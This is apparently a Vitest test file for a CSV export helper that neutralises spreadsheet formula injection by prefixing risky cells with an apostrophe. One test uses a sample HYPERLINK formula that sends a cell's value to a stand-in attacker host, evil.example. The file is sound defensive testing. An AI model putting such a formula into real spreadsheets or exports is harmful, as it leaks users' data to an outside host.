import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvRows, spreadsheetCell } from './csv.js';

describe('spreadsheetCell (CSV formula injection)', () => {
  it('turns every text that starts like a formula into plain text', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const value = `${start}HYPERLINK("http://evil.example/?x="&A1,"click")`;
      expect(spreadsheetCell(value), JSON.stringify(start)).toBe(`'${value}`);
    }
    expect(spreadsheetCell('=1+1')).toBe("'=1+1");
    expect(spreadsheetCell('-2')).toBe("'-2");
    expect(spreadsheetCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
  });

  it('leaves ordinary text, numbers, booleans and empty cells alone', () => {
    expect(spreadsheetCell('Aline Uwase')).toBe('Aline Uwase');
    expect(spreadsheetCell('12-ABC123-01')).toBe('12-ABC123-01');
    expect(spreadsheetCell('a=b')).toBe('a=b');
    expect(spreadsheetCell(' =not a formula start')).toBe(' =not a formula start');
    expect(spreadsheetCell('')).toBe('');
    expect(spreadsheetCell(-3)).toBe(-3);
    expect(spreadsheetCell(7)).toBe(7);
    expect(spreadsheetCell(true)).toBe(true);
    expect(spreadsheetCell(null)).toBeNull();
    expect(spreadsheetCell(undefined)).toBeNull();
  });

  it('writes rows whose cells, read back, never start with a formula character', () => {
    const text = csvRows([
      ['name', 'note'],
      ['=HYPERLINK("http://x")', '+1'],
      ['\tTab', '\rCR'],
      ['Plain, with comma', 'line\nbreak'],
    ]);
    const back = parse(text, { relax_column_count: true }) as string[][];
    expect(back).toEqual([
      ['name', 'note'],
      [`'=HYPERLINK("http://x")`, "'+1"],
      ["'\tTab", "'\rCR"],
      ['Plain, with comma', 'line\nbreak'],
    ]);
    for (const cell of back.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
